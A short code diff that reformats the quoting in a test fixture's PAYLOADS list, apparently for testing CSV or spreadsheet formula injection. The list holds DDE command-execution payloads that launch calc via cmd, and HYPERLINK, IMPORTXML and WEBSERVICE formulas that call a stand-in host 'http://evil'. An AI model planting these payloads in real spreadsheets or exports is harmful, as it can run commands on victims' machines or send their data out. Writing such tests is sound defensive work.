@@ -26,9 +26,9 @@ PAYLOADS = [
     f"{start}{payload}"
     for start in STARTS
     for payload in (
-        *("cmd|' /C calc'!A0", "HYPERLINK(\"http://evil\",\"x\")", "1+1", "SUM(A1:A9)", "IMPORTXML(\"http://evil\")"),
-        *("2+5+cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\")", "WEBSERVICE(\"http://evil\")", "A1", "@SUM(1)", "''", "-1-1"),
-        *("1;2", "{=1}", "张三", "\"\""),
+        *("cmd|' /C calc'!A0", 'HYPERLINK("http://evil","x")', "1+1", "SUM(A1:A9)", 'IMPORTXML("http://evil")'),
+        *("2+5+cmd|' /C calc'!A0", 'DDE("cmd";"/C calc")', 'WEBSERVICE("http://evil")', "A1", "@SUM(1)", "''", "-1-1"),
+        *("1;2", "{=1}", "张三", '""'),
     )
 ]
 
